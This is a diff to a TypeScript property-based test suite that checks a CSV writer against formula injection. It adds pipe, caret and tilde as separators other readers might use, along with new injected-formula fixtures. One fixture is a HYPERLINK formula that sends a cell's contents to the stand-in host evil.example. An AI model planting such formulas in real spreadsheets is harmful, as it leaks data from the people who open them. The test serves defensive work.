@@ -21,6 +21,9 @@ const pieces = [
     '"',
     ',',
     ';',
+    '|',
+    '^',
+    '~',
     '\t',
     '\r',
     '\n',
@@ -87,12 +90,14 @@ describe('CSV', () => {
     /^[\s\p{Z}\p{C}"]*[=+\-@\u207a-\u207c\u208a-\u208c\u2212\ufe62\ufe63\ufe66\ufe6b\uff0b\uff0d\uff1d\uff20]/u;
 
   const separators = [',', ';', '\t'] as const;
+  /** What a program may be set to. */
+  const anySeparators = [...separators, '|', '^', '~'];
   for (const separator of separators) {
     it(`holds no formula where ${JSON.stringify(separator)} separates the cells, whoever reads it`, () => {
       fc.assert(
         fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
           const text = csvText(cells, [cells], separator).slice(1);
-          const readings = separators
+          const readings = anySeparators
             .filter((other) => other !== separator)
             .flatMap((other) => Object.values(otherReaders).map((reader) => reader(text, other)));
           for (const read of [readCsv(text, separator), ...readings].flat(2)) {
@@ -119,6 +124,9 @@ describe('CSV', () => {
     'a,-1',
     'a\u2028=1',
     '\u2212 1',
+    'PBX|=HYPERLINK("http://evil.example/?"&A1|"x")|',
+    'a^"=1+1"',
+    'a~ @x',
   ];
   for (const text of formulaInside) {
     it(`marks ${JSON.stringify(text)} wherever another separator makes a cell of it`, () => {
@@ -131,7 +139,7 @@ describe('CSV', () => {
           ],
           separator,
         ).slice(1);
-        for (const other of separators.filter((one) => one !== separator)) {
+        for (const other of anySeparators.filter((one) => one !== separator)) {
           for (const [reader, readAs] of Object.entries(otherReaders)) {
             for (const read of readAs(file, other).flat()) {
               assert.doesNotMatch(read, formula, `${reader}, ${JSON.stringify(separator + other)}`);
